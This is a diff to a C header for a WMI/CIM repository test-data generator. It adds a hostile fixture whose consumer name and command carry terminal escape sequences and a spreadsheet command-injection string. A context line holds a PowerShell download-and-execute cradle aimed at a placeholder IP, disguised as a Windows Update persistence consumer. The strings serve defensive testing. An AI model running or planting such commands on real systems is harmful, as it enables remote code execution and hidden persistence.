@@ -310,6 +310,18 @@ cimgen_inst *cimgen_add_subscription(cimgen_model *m, const char *ns, const char
  * ActiveScriptEventConsumer subscription, and in root\cimv2 a class
  * Win32_AuditCode whose default holds a payload big enough to span pages. */
 void cimgen_demo(cimgen_model *m);
+
+/* The content of `wh-cimgen hostile` (issue 6, safe output): the Windows
+ * defaults plus one CommandLineEventConsumer subscription in
+ * root\subscription whose consumer name is CIMGEN_HOSTILE_NAME and whose
+ * CommandLineTemplate is CIMGEN_HOSTILE_CMD followed by 1 MiB of 'A'.
+ * Both carry terminal escapes, a C1 CSI, a leading '=' and a lone UTF-16
+ * surrogate (written as the WTF-8 bytes ED A0 80, stored as the unit
+ * 0xD800). A CIM string ends at its first NUL, so NUL cannot be stored. */
+#define CIMGEN_HOSTILE_NAME "=evil\x1b[2J\x1b]0;pwned\x07\xc2\x9b\xed\xa0\x80name"
+#define CIMGEN_HOSTILE_CMD "=cmd|' /c calc'!A0\x1b[31m\xed\xa0\x80"
+#define CIMGEN_HOSTILE_BIG (1u << 20)
+void cimgen_hostile(cimgen_model *m);
 #define CIMGEN_DEMO_CMD_FILTER "WindowsUpdateFilter"
 #define CIMGEN_DEMO_CMD_CONSUMER "WindowsUpdateConsumer"
 #define CIMGEN_DEMO_CMD_ENCODED "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')"
